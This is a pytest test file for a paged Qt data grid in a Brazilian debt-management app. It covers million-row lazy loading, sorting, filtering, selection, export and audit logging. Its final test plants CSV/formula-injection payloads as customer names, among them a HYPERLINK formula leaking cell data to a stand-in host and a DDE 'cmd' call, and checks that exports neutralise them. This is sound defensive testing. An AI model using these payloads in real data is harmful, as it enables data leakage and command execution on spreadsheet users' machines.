"""The grid every list uses: first page at once on a million rows, more as it scrolls,
sorting and filtering in the database, export of what is shown — checked with
pytest-qt's model tester."""

import csv
from decimal import Decimal

import openpyxl
from sqlalchemy import Integer, column, select, text
from sqlalchemy.sql import table

from gestao_negativacao.gui.qt import Qt
from gestao_negativacao.gui.table_model import RAW_ROLE, CheckableModel, PagedTableModel
from gestao_negativacao.gui.widgets.grid import Grid
from gestao_negativacao.services.importing import import_file
from gestao_negativacao.services.listing import Column, PagedQuery, selecting
from tests.conftest import SAMPLE

MILLION = 1_000_000


def numbers_query(db, rows: int) -> PagedQuery:
    """A list of ``rows`` rows made by the database itself (no table to fill)."""
    n = table("n", column("x", Integer))
    cte = (
        text(
            f"WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < {rows}) "
            "SELECT x FROM n"
        )
        .columns(n.c.x)
        .cte("n")
    )
    columns = [
        Column("id", "Nº", cte.c.x, "number"),
        Column("x2", "Valor", cte.c.x, "number", searchable=True),
    ]
    return PagedQuery(db.session_factory, selecting(columns), columns)


def installments_query(db) -> PagedQuery:
    from gestao_negativacao.db.models import Customer, Installment, Sale

    columns = [
        Column("id", "Id", Installment.id, "number"),
        Column("document", "CPF/CNPJ", Customer.document, "document", searchable=True),
        Column("name", "Cliente", Customer.name, searchable=True),
        Column("sale", "Venda", Sale.number, searchable=True),
        Column("due", "Vencimento", Installment.due_date, "date"),
        Column("open", "Em aberto", Installment.open_amount, "money"),
    ]
    query = (
        selecting(columns)
        .join(Sale, Sale.id == Installment.sale_id)
        .join(Customer, Customer.id == Sale.holder_id)
    )
    return PagedQuery(db.session_factory, query, columns)


def loaded(qtbot, model: PagedTableModel, timeout=20_000):
    qtbot.waitUntil(lambda: not model.loading and model.total > 0, timeout=timeout)


def test_a_million_rows_any_page_read_when_shown_and_never_all(qtbot, qtmodeltester, sqlite_db):
    model = PagedTableModel(numbers_query(sqlite_db, MILLION))
    model.reload()
    loaded(qtbot, model)
    assert model.total == MILLION and model.rowCount() == MILLION  # the view's scroll range
    assert model.data(model.index(0, 0)) == "1" and model.is_loaded(199)
    last = MILLION - 1
    assert model.data(model.index(last, 0)) is None  # not read yet: asked for
    qtbot.waitUntil(lambda: model.is_loaded(last), timeout=20_000)
    assert model.data(model.index(last, 0)) == "1.000.000"
    assert not model.is_loaded(500_000)  # nothing between was read
    for page in range(1, PagedTableModel.KEEP_PAGES + 5):  # scrolling on and on
        model.load_row(page * PagedTableModel.PAGE)
        qtbot.waitUntil(lambda page=page: model.is_loaded(page * PagedTableModel.PAGE))
    assert len(model.loaded_rows()) == PagedTableModel.KEEP_PAGES * PagedTableModel.PAGE
    assert not model.is_loaded(0)  # the page seen longest ago was let go
    model.sort(1, Qt.SortOrder.DescendingOrder)  # an ORDER BY, answered by the database
    qtbot.waitUntil(lambda: not model.loading and model.data(model.index(0, 1)) == "1.000.000")
    assert len(model.loaded_rows()) == PagedTableModel.PAGE
    qtmodeltester.check(model, force_py=True)


def test_the_checkable_model_passes_qts_model_tester_while_ticked_and_reloaded(
    qtbot, qtmodeltester, sqlite_db
):
    """The found-items model (Inclusão/Baixa, Liberar) under Qt's own model tester: rows,
    check states and a reload keep the model's contract."""
    model = CheckableModel(numbers_query(sqlite_db, 1_000), lambda row: row.id)
    model.reload()
    loaded(qtbot, model)
    qtmodeltester.check(model, force_py=True)
    first = model.index(0, 0)
    assert model.flags(first) & Qt.ItemFlag.ItemIsUserCheckable
    assert model.setData(first, Qt.CheckState.Checked, Qt.ItemDataRole.CheckStateRole)
    assert model.checked_count() == 1 and model.checked_rows()[0].id == 1
    model.select_all(True)
    assert model.checked_count() == 1_000
    model.setData(first, Qt.CheckState.Unchecked, Qt.ItemDataRole.CheckStateRole)
    assert model.checked_count() == 999 and model.unticked_rows()[0].x2 == 1
    model.reload()  # a new Buscar: nothing ticked any more
    loaded(qtbot, model)
    assert model.checked_count() == 0


def test_grid_filters_sorts_formats_and_exports(qtbot, qtmodeltester, sqlite_db, system, tmp_path):
    import_file(sqlite_db.session_factory, system, SAMPLE)
    grid = Grid(installments_query(sqlite_db), "parcelas_teste")
    qtbot.addWidget(grid)
    grid.show()
    grid.reload()
    loaded(qtbot, grid.model)
    assert grid.count_label.text() == "129 registros"
    model = grid.model
    qtmodeltester.check(model, force_py=True)
    money = model.index(0, 5)
    assert model.data(money).startswith("R$ ")
    assert model.data(money, Qt.ItemDataRole.TextAlignmentRole) == int(
        (Qt.AlignmentFlag.AlignRight | Qt.AlignmentFlag.AlignVCenter).value
    )
    assert isinstance(model.data(money, RAW_ROLE), Decimal)
    assert "/" in model.data(model.index(0, 4)) and "-" in model.data(model.index(0, 1))
    document = model.data(model.index(0, 1))
    grid.filter.setText(document)  # typed with the mask, as a clerk copies it
    qtbot.waitUntil(lambda: grid.count_label.text() != "129 registros", timeout=5000)
    filtered = model.total
    assert 0 < filtered < 129
    assert all(model.data(model.index(r, 1)) == document for r in range(model.rowCount()))
    grid.table.sortByColumn(5, Qt.SortOrder.DescendingOrder)
    qtbot.waitUntil(lambda: not model.loading and model.order_by == "open")
    qtbot.waitUntil(lambda: model.is_loaded(model.rowCount() - 1))
    values = [model.data(model.index(r, 5), RAW_ROLE) for r in range(model.rowCount())]
    assert values == sorted(values, reverse=True)
    for suffix in ("csv", "xlsx"):
        target = tmp_path / f"lista.{suffix}"
        grid.ask_export_path = lambda target=target: target
        grid.export()
        qtbot.waitUntil(lambda target=target: getattr(grid, "last_export", (None,))[0] == target)
        assert grid.last_export[1] == filtered
    with (tmp_path / "lista.csv").open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0] == ["Id", "CPF/CNPJ", "Cliente", "Venda", "Vencimento", "Em aberto"]
    assert len(rows) == filtered + 1 and rows[1][1] == document and "," in rows[1][5]
    sheet = openpyxl.load_workbook(tmp_path / "lista.xlsx").active
    assert sheet.max_row == filtered + 1 and isinstance(sheet.cell(2, 6).value, float | int)


def test_exports_keep_formulas_as_text_and_are_audited(qtbot, sqlite_db, tmp_path):
    """OWASP CSV injection: names from the ERP that a spreadsheet would run stay text, in
    CSV (leading apostrophe) and XLSX (a text cell with the quote prefix); every export is
    in the audit log with the screen, the filter and how many rows."""
    from sqlalchemy import update

    from gestao_negativacao.db.models import AuditEntry, Customer
    from gestao_negativacao.gui.context import Context
    from gestao_negativacao.gui.qt import QWidget
    from tests.sending_helpers import admin_actor, portfolio

    admin = admin_actor(sqlite_db)
    portfolio(sqlite_db, 4)
    names = ['=HYPERLINK("http://x?"&A1,"ver")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    with sqlite_db.session_factory.begin() as s:
        for n, name in enumerate(names):
            s.execute(update(Customer).where(Customer.name == f"cli{n}").values(name=name))
    page = QWidget()
    page.context = Context(sqlite_db, admin)  # as every screen keeps it
    grid = Grid(installments_query(sqlite_db), "parcelas_teste", page)
    qtbot.addWidget(page)
    grid.reload()
    loaded(qtbot, grid.model)
    for suffix in ("csv", "xlsx"):
        target = tmp_path / f"nomes.{suffix}"
        grid.ask_export_path = lambda target=target: target
        grid.export()
        qtbot.waitUntil(lambda target=target: getattr(grid, "last_export", (None,))[0] == target)
    text = (tmp_path / "nomes.csv").read_text(encoding="utf-8-sig")
    cells = {row[2] for row in csv.reader(text.splitlines()[1:], delimiter=";")}
    assert cells == {"'" + n for n in names}
    sheet = openpyxl.load_workbook(tmp_path / "nomes.xlsx").active
    written = [sheet.cell(r, 3) for r in range(2, sheet.max_row + 1)]
    assert {c.value for c in written} == set(names)
    assert all(c.data_type == "s" and c.quotePrefix for c in written)
    with sqlite_db.session_factory() as s:
        entries = s.scalars(select(AuditEntry).where(AuditEntry.action == "exportar")).all()
    assert [e.login for e in entries] == ["admin", "admin"]
    assert '"linhas": 4' in entries[0].details and '"tela": "parcelas_teste"' in entries[0].details
